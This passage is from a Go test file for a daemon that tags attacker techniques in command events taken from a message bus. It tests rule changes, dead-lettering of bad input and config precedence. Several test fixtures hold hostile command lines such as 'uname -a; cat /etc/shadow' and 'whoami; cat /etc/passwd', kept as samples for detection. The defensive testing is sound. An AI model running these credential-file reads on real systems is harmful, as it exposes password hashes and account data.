		data := fmt.Sprintf(`{"source_kind":"command","source_id":%q,"observed_at":"2026-11-28T00:00:00Z","payload":{"command_text":"uname -a; cat /etc/shadow"}}`, id)
		after = append(after, testEvent{subject: bus.SubjectFor(bus.DefaultPrefix, abi.KindCommand), kind: abi.KindCommand, id: id, data: []byte(data)})
	}
	acked := map[string]float64{}
	for _, w := range ws {
		acked[w.name], _ = w.metric("ttp_bus_acked_total")
	}
	if err := b.publish(after); err != nil {
		t.Fatal(err)
	}
	b.waitAcked(t, time.Minute)
	for _, ev := range after {
		tags, err := st.Tags(context.Background(), store.Filter{UpstreamKind: ev.kind, UpstreamID: ev.id})
		if err != nil {
			t.Fatal(err)
		}
		var rules []string
		for _, tg := range tags {
			rules = append(rules, tg.RuleID)
		}
		if !slices.Equal(rules, []string{"R0024"}) {
			t.Fatalf("event %s after disabling R0001 has tags of %v, want R0024 only", ev.id, rules)
		}
	}
	for _, w := range ws {
		n, _ := w.metric("ttp_bus_acked_total")
		t.Logf("%s acked %.0f of the events after the change", w.name, n-acked[w.name])
	}
	for _, w := range ws {
		w.stop(15 * time.Second)
	}
}

// TestDeadLetterNeverStops: bad JSON, an event without source_id and an oversized message go
// to ttp.deadletter with their reasons; the daemon keeps running and tags what follows.
func TestDeadLetterNeverStops(t *testing.T) {
	dir := t.TempDir()
	rules := copyRules(t, dir)
	b := newTestBus(t)
	d := startDaemon(t, daemonOpts{name: "w1", data: filepath.Join(dir, "data"), nats: b.url, rules: rules, metrics: true})
	subj := bus.SubjectFor(bus.DefaultPrefix, abi.KindCommand)
	big := `{"source_kind":"command","source_id":"big","observed_at":"2026-11-27T05:00:00Z","payload":{"command_text":"uname -a ` + strings.Repeat("A", 300<<10) + `"}}`
	b.publishRaw(t, subj, []byte(`{not json`))
	b.publishRaw(t, subj, []byte(`{"source_kind":"command","observed_at":"2026-11-27T05:00:00Z","payload":{"command_text":"uname -a"}}`))
	b.publishRaw(t, subj, []byte(big))
	b.publishRaw(t, subj, []byte(`{"source_kind":"command","source_id":"good-1","observed_at":"2026-11-27T05:00:01Z","payload":{"command_text":"uname -a; cat /etc/shadow"}}`))
	b.waitAcked(t, 30*time.Second)
	if d.exited() {
		t.Fatalf("the daemon stopped on bad input: %v", d.wait(0))
	}
	// It goes on: a good event published after the bad ones.
	b.publishRaw(t, subj, []byte(`{"source_kind":"command","source_id":"good-2","observed_at":"2026-11-27T05:00:02Z","payload":{"command_text":"whoami; cat /etc/passwd"}}`))
	b.waitAcked(t, 30*time.Second)
	if n, err := d.metric("ttp_bus_dead_lettered_total"); err != nil || n != 3 {
		t.Errorf("ttp_bus_dead_lettered_total %v (%v), want 3", n, err)
	}
	out := b.readOutput(t)
	if len(out.dead) != 3 {
		t.Fatalf("%d dead letters, want 3", len(out.dead))
	}
	var reasons []string
	for _, dl := range out.dead {
		reasons = append(reasons, dl.Reason)
		if dl.Subject != subj || dl.SHA256 == "" || dl.Size == 0 || len(dl.Head) == 0 || len(dl.Head) > 4096 {
			t.Errorf("dead letter %q: subject %q, size %d, sha256 %q, head %d bytes", dl.Reason, dl.Subject, dl.Size, dl.SHA256, len(dl.Head))
		}
	}
	all := strings.Join(reasons, "\n")
	for _, want := range []string{"invalid character", `"source_id"`, "over the 262144-byte limit"} {
		if !strings.Contains(all, want) {
			t.Errorf("no dead letter for %q among:\n%s", want, all)
		}
	}
	tagged := map[string]int{}
	for _, e := range out.envelopes {
		tagged[e.SourceID] += len(e.Tags)
	}
	if tagged["good-1"] != 2 || tagged["good-2"] != 2 || len(tagged) != 2 {
		t.Errorf("envelopes: tags by event %v, want good-1 and good-2 with 2 each", tagged)
	}
	d.stop(15 * time.Second)
	st, err := store.Open(context.Background(), filepath.Join(dir, "data", "ttp.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if n, _ := st.Count(context.Background()); n != 4 {
		t.Errorf("%d tags stored, want 4 (2 for each good event)", n)
	}
}

// TestConfigPrecedence: flags beat TTP_* environment, which beats the --config file; first on
// applyConfig itself, then on the daemon, through the address its start-up line reports and
// serves /healthz on, and the drain timeout its shutdown line reports.
func TestConfigPrecedence(t *testing.T) {
	dir := t.TempDir()
	t.Run("applyConfig", func(t *testing.T) {
		file := filepath.Join(dir, "unit.yaml")
		os.WriteFile(file, []byte("metrics: 127.0.0.1:1001\nbatch: 100\ndrain-timeout: 7s\nname: from-file\nprint: true\n"), 0o644)
		for _, tc := range []struct {
			name  string
			env   map[string]string
			args  []string
			check map[string]string
		}{
			{"file", nil, nil,
				map[string]string{"metrics": "127.0.0.1:1001", "batch": "100", "drain-timeout": "7s", "name": "from-file", "print": "true", "sync": "normal"}},
			{"env over file", map[string]string{"TTP_METRICS": "127.0.0.1:1002", "TTP_BATCH": "200", "TTP_PRINT": "false"}, nil,
				map[string]string{"metrics": "127.0.0.1:1002", "batch": "200", "drain-timeout": "7s", "name": "from-file", "print": "false"}},
			{"flag over env", map[string]string{"TTP_METRICS": "127.0.0.1:1002", "TTP_BATCH": "200", "TTP_DRAIN_TIMEOUT": "6s"},
				[]string{"--metrics", "127.0.0.1:1003", "--drain-timeout", "5s"},
				map[string]string{"metrics": "127.0.0.1:1003", "batch": "200", "drain-timeout": "5s", "name": "from-file"}},
			{"flag set to the default still wins", map[string]string{"TTP_BATCH": "200"}, []string{"--batch", "256"},
				map[string]string{"batch": "256"}},
		} {
			t.Run(tc.name, func(t *testing.T) {
				for _, k := range []string{"TTP_METRICS", "TTP_BATCH", "TTP_DRAIN_TIMEOUT", "TTP_PRINT", "TTP_NAME", "TTP_SYNC", "TTP_CONFIG"} {
					t.Setenv(k, "")
					os.Unsetenv(k)
				}
				for k, v := range tc.env {
					t.Setenv(k, v)
				}
				fs := flag.NewFlagSet("serve", flag.ContinueOnError)
				fs.SetOutput(io.Discard)
				fs.String("config", "", "")
				fs.String("metrics", "127.0.0.1:9464", "")
				fs.Int("batch", 256, "")
				fs.Duration("drain-timeout", 10*time.Second, "")
				fs.String("name", "", "")
				fs.String("sync", "normal", "")
				fs.Bool("print", false, "")
				if err := fs.Parse(append([]string{"--config", file}, tc.args...)); err != nil {
					t.Fatal(err)
				}
				if err := applyConfig(fs, file); err != nil {
					t.Fatal(err)
				}
				for name, want := range tc.check {
					if got := fs.Lookup(name).Value.String(); got != want {
						t.Errorf("--%s = %q, want %q", name, got, want)
					}
				}
			})
		}
		bad := filepath.Join(dir, "bad.yaml")
		os.WriteFile(bad, []byte("metrics: x\nbatchsize: 3\n"), 0o644)
		fs := flag.NewFlagSet("serve", flag.ContinueOnError)
		fs.String("metrics", "", "")
		if err := applyConfig(fs, bad); err == nil || !strings.Contains(err.Error(), `unknown key "batchsize"`) {
			t.Errorf("unknown key: %v", err)
		}
	})

	t.Run("daemon", func(t *testing.T) {
		rules := copyRules(t, dir)
		b := newTestBus(t)
		fileAddr, envAddr, flagAddr := freeAddr(t), freeAddr(t), freeAddr(t)
		file := filepath.Join(dir, "serve.yaml")
		cfg := fmt.Sprintf("nats: %s\nrules: %s\nmetrics: %s\ndrain-timeout: 7s\n", b.url, rules, fileAddr)
		if err := os.WriteFile(file, []byte(cfg), 0o644); err != nil {
			t.Fatal(err)
		}
		for i, tc := range []struct {
			name        string
			env, args   []string
			addr, drain string
		}{
			{"file", nil, nil, fileAddr, "7s"},
			{"env over file", []string{"TTP_METRICS=" + envAddr, "TTP_DRAIN_TIMEOUT=6s"}, nil, envAddr, "6s"},
			{"flag over env", []string{"TTP_METRICS=" + envAddr, "TTP_DRAIN_TIMEOUT=6s"}, []string{"--metrics", flagAddr, "--drain-timeout", "5s"}, flagAddr, "5s"},
			// --config is a setting like the others: TTP_CONFIG names the file.
			{"TTP_CONFIG", []string{"TTP_CONFIG=" + file}, []string{"--nats", b.url, "--rules", rules}, fileAddr, "7s"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				args := tc.args
				if tc.name != "TTP_CONFIG" {
					args = append([]string{"--config", file}, args...)
				}
				d := launchDaemon(t, daemonOpts{name: fmt.Sprintf("cfg%d", i), data: filepath.Join(dir, fmt.Sprintf("data%d", i)),
					noMetrics: true, env: tc.env, args: args})
				if _, ok := d.waitLine("ttp serve running", 60*time.Second); !ok {
					t.Fatalf("did not start:\n%s", d.tail(20))
				}
				if _, ok := d.waitLine("ttp serve running", 0, "metrics="+tc.addr); !ok {
					t.Errorf("start-up line does not report metrics=%s:\n%s", tc.addr, d.tail(5))
				}
				resp, err := http.Get("http://" + tc.addr + "/healthz")
				if err != nil {
					t.Errorf("/healthz on %s: %v", tc.addr, err)
				} else {
					resp.Body.Close()
				}
				d.signal(syscall.SIGTERM)
				if st := d.wait(15 * time.Second); st == nil || st.ExitCode() != 0 {
					t.Fatalf("exit after SIGTERM: %v", st)
				}
				if _, ok := d.waitLine("shutting down", 0, "timeout="+tc.drain); !ok {
					t.Errorf("shutdown line does not report timeout=%s:\n%s", tc.drain, d.tail(5))
				}
			})
		}
	})
}
